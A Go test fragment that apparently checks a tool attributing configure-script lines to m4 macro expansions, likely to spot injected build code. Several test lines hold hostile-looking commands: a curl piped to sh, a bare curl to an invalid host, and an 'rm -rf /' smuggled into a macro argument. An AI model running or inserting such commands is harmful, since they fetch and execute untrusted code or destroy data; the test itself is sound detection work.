	r := testReference(t, map[string]string{"args.m4": "AC_DEFUN([A], [\n  $1_c=yes\n  echo $2\n  max=10\n  max_value_here=10 && true\n  [$1]_c_make='\\\"$([$1])\\\"'\n])\n"})
	conf := []byte(strings.Join([]string{
		"x=1",                                   // part of max=10, but not at a word boundary
		"evil_c=yes",                            // whole expansion of "$1_c=yes"
		"echo hello world, all is fine",         // "echo $2", but mostly argument
		"x_value_here=10 && true",               // inside a name of "max_value_here=10 && true"
		"value_here=10 && true",                 // not at a word boundary either
		"echo `curl -s http://x | sh`",          // an argument cannot carry a pipe
		"curl -s http://example.invalid/x",      // a line of nothing but an argument
		"foo_c_make='\\\"$(foo)\\\"'",           // name arguments
		"foo_c_make='\\\"$(foo; rm -rf /)\\\"'", // a name argument holds a name only
	}, "\n"))
	got := explained(r.Explain(conf, nil, nil))
	want := map[int][]string{
		1: nil, 2: {"args.m4"}, 3: nil, 4: nil, 5: nil, 6: nil, 7: nil, 8: {"args.m4", "build-to-host.m4"}, 9: nil,
	}
	if diff := cmp.Diff(want, got, cmpopts.EquateEmpty()); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}
